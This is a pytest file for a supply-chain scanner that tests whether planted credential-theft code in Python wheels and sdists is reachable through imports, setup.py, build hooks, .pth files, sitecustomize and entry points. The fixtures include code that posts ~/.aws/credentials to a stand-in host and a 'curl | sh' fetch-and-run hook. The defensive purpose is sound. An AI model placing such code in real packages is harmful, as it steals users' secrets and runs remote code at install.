"""Reachability: the same capability is judged by what makes it run."""

from __future__ import annotations

from typing import TYPE_CHECKING

from pyscan_helpers import scan

from chainwarden.models import Severity, Trigger
from support.packages import make_sdist, make_wheel

if TYPE_CHECKING:
    from pathlib import Path

    from chainwarden.models import Finding

EXFIL = """\
import os, requests


def collect():
    return requests.post("https://c.invalid/x", data=open(os.path.expanduser("~/.aws/credentials")).read())
"""


def rules(findings: list[Finding]) -> dict[str, Finding]:
    return {f.rule_id: f for f in findings}


def test_capability_in_a_function_nobody_calls_is_nothing(tmp_path: Path) -> None:
    wheel = make_wheel(
        tmp_path, "lib", "1.0", {"lib/__init__.py": "from lib.core import collect\n", "lib/core.py": EXFIL}
    )
    assert not [f for f in scan(wheel, tmp_path) if f.severity >= Severity.MEDIUM]


def test_called_at_import_through_relative_imports_and_reexports(tmp_path: Path) -> None:
    files = {
        "lib/__init__.py": "from .api import start\nstart()\n",
        "lib/api.py": "from .core import collect as start\n",
        "lib/core.py": EXFIL,
    }
    hit = rules(scan(make_wheel(tmp_path, "lib", "1.0", files), tmp_path))["CW203"]
    assert hit.trigger is Trigger.IMPORT
    assert hit.location.path == "lib/core.py"
    assert "calls" in dict(hit.evidence.detail)["how it runs"]


def test_main_guard_does_not_run_at_import(tmp_path: Path) -> None:
    files = {"lib/__init__.py": "", "lib/core.py": EXFIL + "\nif __name__ == '__main__':\n    collect()\n"}
    assert "CW203" not in rules(scan(make_wheel(tmp_path, "lib", "1.0", files), tmp_path))


def test_console_script_is_an_entry_point_not_a_block(tmp_path: Path) -> None:
    files = {"lib/__init__.py": "", "lib/core.py": EXFIL}
    eps = {"console_scripts": {"lib": "lib.core:collect"}}
    found = scan(make_wheel(tmp_path, "lib", "1.0", files, entry_points=eps), tmp_path)
    hit = rules(found)["CW203"]
    assert hit.trigger is Trigger.ENTRY_POINT
    assert hit.severity < Severity.HIGH


def test_autoloaded_plugin_group_runs_like_an_import(tmp_path: Path) -> None:
    files = {"lib/__init__.py": "", "lib/core.py": EXFIL}
    eps = {"pytest11": {"lib": "lib.core:collect"}}
    hit = rules(scan(make_wheel(tmp_path, "lib", "1.0", files, entry_points=eps), tmp_path))["CW203"]
    assert hit.severity is Severity.CRITICAL


def test_setup_py_runs_at_install_and_its_imports_too(tmp_path: Path) -> None:
    files = {
        "setup.py": "from setuptools import setup\nfrom lib.core import collect\ncollect()\nsetup(name='lib')\n",
        "lib/__init__.py": "",
        "lib/core.py": EXFIL,
    }
    hit = rules(scan(make_sdist(tmp_path, "lib", "1.0", files), tmp_path))["CW203"]
    assert hit.trigger is Trigger.INSTALL
    assert hit.location.path == "lib-1.0/lib/core.py"


def test_in_tree_build_backend_and_hatch_hook_run_at_install(tmp_path: Path) -> None:
    files = {
        "pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
            "[tool.hatch.build.hooks.custom]\n"
        ),
        "_build/backend.py": EXFIL,
        "hatch_build.py": "import os\nos.system('curl -s https://x.invalid/a | sh')\n",
    }
    found = scan(make_sdist(tmp_path, "lib", "1.0", files), tmp_path)
    by_path = {(f.rule_id, f.location.path): f for f in found}
    assert by_path[("CW203", "lib-1.0/_build/backend.py")].trigger is Trigger.INSTALL
    assert by_path[("CW202", "lib-1.0/hatch_build.py")].trigger is Trigger.INSTALL


def test_pth_reaches_module_functions_and_threads(tmp_path: Path) -> None:
    files = {
        "boot.pth": "import lib.boot\n",
        "lib/__init__.py": "",
        "lib/boot.py": "import threading\nfrom lib.core import collect\nthreading.Thread(target=collect).start()\n",
        "lib/core.py": EXFIL,
    }
    hit = rules(scan(make_wheel(tmp_path, "lib", "1.0", files), tmp_path))["CW203"]
    assert hit.trigger is Trigger.INTERPRETER_START
    assert "boot.pth" in dict(hit.evidence.detail)["how it runs"]


def test_start_file_entry_runs_at_interpreter_start(tmp_path: Path) -> None:
    files = {"lib.start": "lib.core:collect\n", "lib/__init__.py": "", "lib/core.py": EXFIL}
    found = rules(scan(make_wheel(tmp_path, "lib", "1.0", files), tmp_path))
    assert found["CW203"].trigger is Trigger.INTERPRETER_START
    assert "CW214" in found


def test_sitecustomize_runs_at_interpreter_start(tmp_path: Path) -> None:
    files = {
        "sitecustomize.py": "from lib.core import collect\ncollect()\n",
        "lib/__init__.py": "",
        "lib/core.py": EXFIL,
    }
    found = rules(scan(make_wheel(tmp_path, "lib", "1.0", files), tmp_path))
    assert found["CW203"].trigger is Trigger.INTERPRETER_START
    assert found["CW214"].severity is Severity.MEDIUM


def test_pth_inside_a_package_directory_is_not_processed(tmp_path: Path) -> None:
    files = {"lib/__init__.py": "", "lib/data/boot.pth": "import lib.core; lib.core.collect()\n", "lib/core.py": EXFIL}
    assert "CW203" not in rules(scan(make_wheel(tmp_path, "lib", "1.0", files), tmp_path))


def test_pth_through_data_purelib(tmp_path: Path) -> None:
    wheel = make_wheel(
        tmp_path,
        "lib",
        "1.0",
        {"lib/__init__.py": "", "lib/core.py": EXFIL},
        data_files={"purelib/boot.pth": "import lib.core; lib.core.collect()\n"},
    )
    hit = rules(scan(wheel, tmp_path))["CW203"]
    assert hit.trigger is Trigger.INTERPRETER_START


def test_tests_directory_of_an_sdist_is_not_import_time(tmp_path: Path) -> None:
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='lib')\n",
        "lib/__init__.py": "",
        "tests/test_net.py": EXFIL + "collect()\n",
    }
    assert "CW203" not in rules(scan(make_sdist(tmp_path, "lib", "1.0", files), tmp_path))
